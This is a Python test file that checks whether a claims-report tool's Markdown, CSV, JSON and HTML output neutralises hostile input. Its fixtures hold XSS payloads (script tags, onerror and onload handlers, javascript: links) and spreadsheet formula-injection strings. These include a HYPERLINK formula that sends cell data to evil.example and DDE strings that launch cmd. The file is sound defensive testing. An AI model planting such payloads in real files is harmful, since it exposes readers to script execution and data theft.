"""`evidence check --out` files never attack their reader: no live HTML in Markdown, no
formulas in CSV, and JSON kept exact (it is data)."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import lxml.html
import pytest

from evidence.claims.claim import Citation, Claim, ClaimsFile, Verdict
from evidence.report.check_output import render_output

NOW = datetime(2026, 11, 25, 12, 0, tzinfo=UTC)
SCRIPT = "Works <script>alert(1)</script> for back pain"
IMG = 'Heals <img src=x onerror="alert(2)"> fast'
TABLE = "Ends here</table><svg onload=alert(3)> | a | b |"
LINK = "See [this](javascript:alert(4)) and ![x](javascript:alert(5)) and `<b>`"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def verdict(claim_id: str, text: str, *, sentence: str, summary: str = "A summary.") -> Verdict:
    claim = Claim(claim_id, text, "effectiveness", "benefit", ("dry_needling",))
    citation = Citation(90000001, 2020, "rct", "supports", 1.0, sentence, title=sentence)
    return Verdict(claim, "supported", "moderate", "E1", summary, 1, 1, 0, (citation,))


VERDICTS = [
    verdict("C01", SCRIPT, sentence=IMG),
    verdict("C02", IMG, sentence=TABLE),
    verdict("C03", TABLE, sentence=SCRIPT, summary=LINK),
    verdict("C04", LINK, sentence=LINK),
    *(verdict(f"F{n}", f, sentence=f, summary=f) for n, f in enumerate(FORMULAS)),
]
CLAIMS = ClaimsFile(
    "data/claims/hostile.yaml",
    tuple(v.claim for v in VERDICTS),
    source_title="Title <script>alert(6)</script>",
    source_url="javascript:alert(7)",
)


def render(fmt: str) -> str:
    return render_output(fmt, CLAIMS, VERDICTS, checked_at=NOW, data_line="test data")


def test_markdown_has_no_live_html_and_keeps_its_table() -> None:
    markdown_it = pytest.importorskip("markdown_it")
    text = render(".md")
    assert "<" not in text  # every angle bracket is an entity: no raw <script, <img, </table>
    # What a Markdown renderer that passes raw HTML through makes of it:
    html = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    page = lxml.html.fromstring(f"<div>{html}</div>")
    assert page.xpath("//script|//img|//svg|//iframe") == []
    assert [a for el in page.iter() for a in el.attrib if a.lower().startswith("on")] == []
    hrefs = [el.get("href") for el in page.iter("a")]
    assert hrefs and all(h.startswith("https://pubmed.ncbi.nlm.nih.gov/") for h in hrefs)
    # one table, a row per claim, five cells each: no pipe in the text split a cell
    rows = page.xpath("//table/tbody/tr")
    assert len(rows) == len(VERDICTS)
    assert all(len(row.xpath("./td")) == 5 for row in rows)
    # and the reader still sees the editor's words
    assert rows[0].xpath("./td")[1].text_content() == SCRIPT
    assert rows[2].xpath("./td")[1].text_content() == TABLE


def test_csv_neutralises_formulas() -> None:
    rows = list(csv.DictReader(io.StringIO(render(".csv"), newline="")))
    by_id = {r["claim_id"]: r for r in rows}
    assert list(by_id) == [v.claim.id for v in VERDICTS]  # no row split by a CR
    for n, formula in enumerate(FORMULAS):
        row = by_id[f"F{n}"]
        assert row["claim_text"] == "'" + formula.replace("\r", "\n")
        assert row["summary"] == "'" + formula.replace("\r", "\n")
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # numbers are numbers, plain text is untouched
    assert by_id["C01"]["claim_text"] == SCRIPT
    assert by_id["F0"]["n_articles"] == "1" and by_id["F0"]["citations"] == "90000001"


def test_json_stays_exact() -> None:
    doc = json.loads(render(".json"))
    assert doc["source"]["title"] == CLAIMS.source_title
    assert [v["claim_text"] for v in doc["verdicts"]] == [v.claim.text for v in VERDICTS]
    assert [v["citations"][0]["sentence"] for v in doc["verdicts"]] == [
        v.citations[0].sentence for v in VERDICTS
    ]


def test_html_page_escapes_the_same_payloads() -> None:
    page = lxml.html.fromstring(render(".html"))
    assert [el for el in page.iter("script", "img", "svg", "iframe")] == []
    assert [a for el in page.iter() for a in el.attrib if a.lower().startswith("on")] == []
    assert all(
        not (el.get("href") or "").lower().startswith("javascript:") for el in page.iter("a")
    )
